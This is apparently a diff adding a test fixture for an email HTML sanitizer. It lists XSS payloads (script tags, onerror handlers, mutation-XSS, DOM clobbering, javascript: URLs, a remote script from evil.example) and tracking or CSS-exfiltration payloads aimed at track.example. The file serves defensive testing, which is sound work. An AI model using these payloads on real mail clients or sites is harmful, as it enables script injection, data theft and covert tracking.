@@ -1,0 +1,73 @@
+/** Mail that wants to run something (X1). Name, then HTML. Each `run` would call `parent.ran()`. */
+export const HOSTILE_MAIL: readonly (readonly [string, string])[] = [
+  ['a script', '<script>parent.ran()</script>'],
+  ['a script by source', '<script src="https://evil.example/x.js"></script>'],
+  ['an image that fails', '<img src=x onerror="parent.ran()">'],
+  ['an SVG that loads', '<svg onload="parent.ran()"><script>parent.ran()</script></svg>'],
+  [
+    'an SVG with a foreign object',
+    '<svg><foreignObject><iframe srcdoc="<script>parent.ran()</script>"></iframe></foreignObject></svg>',
+  ],
+  [
+    'an SVG that animates an address',
+    '<svg><a><animate attributeName=href values=javascript:parent.ran() /><text>x</text></a></svg>',
+  ],
+  [
+    'MathML mutation',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.ran()&gt;">',
+  ],
+  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=parent.ran()>"></noscript>'],
+  ['template mutation', '<template><img src=x onerror=parent.ran()></template>'],
+  ['nested form mutation', '<form><div></form><form id=x><input name=parentNode></form>'],
+  ['style mutation', '<svg></p><style><a id="</style><img src=1 onerror=parent.ran()>">'],
+  ['select mutation', '<select><template><img src=x onerror=parent.ran()></template></select>'],
+  [
+    'DOM clobbering',
+    '<a id=body></a><a id=body name=ownerDocument></a><img name=body><form id=document><input id=cookie></form>',
+  ],
+  ['a script address', '<a href="java&#10;script:parent.ran()">x</a><a href="&#x6A;avascript:parent.ran()">y</a>'],
+  ['a frame in the frame', '<iframe srcdoc="<script>parent.parent.ran()</script>"></iframe>'],
+  [
+    'object and embed',
+    '<object data="data:text/html,<script>parent.ran()</script>"></object><embed src="javascript:parent.ran()">',
+  ],
+  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
+  ['another base', '<base href="https://evil.example/"><a href="x">x</a>'],
+  [
+    'a form that sends',
+    '<form action="https://evil.example/"><button autofocus formaction="javascript:parent.ran()">x</button></form>',
+  ],
+  ['a popover that opens', '<div popover id=p onbeforetoggle=parent.ran()>x</div><button popovertarget=p>y</button>'],
+  ['details that toggle', '<details open ontoggle=parent.ran()>x</details>'],
+  ['closing the body', '</body></html><script>parent.ran()</script>'],
+  ['a comment that ends oddly', '<!--><img src=x onerror=parent.ran()>-->'],
+  ['1,000 levels', `${'<div>'.repeat(1_000)}<img src=x onerror=parent.ran()>${'</div>'.repeat(1_000)}`],
+];
+
+/** Mail that wants to tell somebody that it was opened (X3). Each address is under track.example. */
+export const TRACKING_MAIL: readonly (readonly [string, string])[] = [
+  ['a pixel', '<img src="https://track.example/p.gif" width=1 height=1>'],
+  ['a pixel without a scheme', '<img src="//track.example/p.gif">'],
+  ['srcset', '<img srcset="https://track.example/a 1x, https://track.example/b 2x">'],
+  ['a picture element', '<picture><source srcset="https://track.example/a"><img src="https://track.example/b"></picture>'],
+  ['an import', '<style>@import "https://track.example/a.css";</style>'],
+  ['a style address', '<p style="background:url(https://track.example/a)">x</p>'],
+  ['an escaped style address', '<p style="background:u\\72l(https://track.example/a)">x</p>'],
+  ['a style image set', '<p style="background:image-set(\'https://track.example/a\' 1x)">x</p>'],
+  ['a style after a comment', '<p style="background:/**/url(https://track.example/a)">x</p>'],
+  ['a table background', '<table background="https://track.example/a"><tr><td background="https://track.example/b">x</td></tr></table>'],
+  ['a body background', '<body background="https://track.example/a">x</body>'],
+  ['prefetch', '<link rel=prefetch href="https://track.example/a"><link rel=dns-prefetch href="//track.example">'],
+  ['a style sheet', '<link rel=stylesheet href="https://track.example/a.css">'],
+  ['a font', '<style>@font-face{font-family:x;src:url(https://track.example/f)}p{font-family:x}</style><p>x</p>'],
+  ['exfiltration by selector', '<style>input[value^=a]{background:url(https://track.example/a)}</style><input value=abc>'],
+  ['video and audio', '<video poster="https://track.example/a" src="https://track.example/b" autoplay></video><audio src="https://track.example/c" autoplay></audio>'],
+  ['an input image', '<input type=image src="https://track.example/a">'],
+  ['an SVG image', '<svg><image href="https://track.example/a" /><use href="https://track.example/b#x" /></svg>'],
+  ['an object', '<object data="https://track.example/a"></object>'],
+  ['a frame', '<iframe src="https://track.example/a"></iframe>'],
+  ['a ping', '<a href="https://ok.example" ping="https://track.example/a">x</a>'],
+  ['a list style', '<ul style="list-style-image:url(https://track.example/a)"><li>x</li></ul>'],
+  ['a cursor', '<p style="cursor:url(https://track.example/a),auto">x</p>'],
+  ['content of a style', '<p style="content:url(https://track.example/a)">x</p>'],
+]; // prettier-ignore
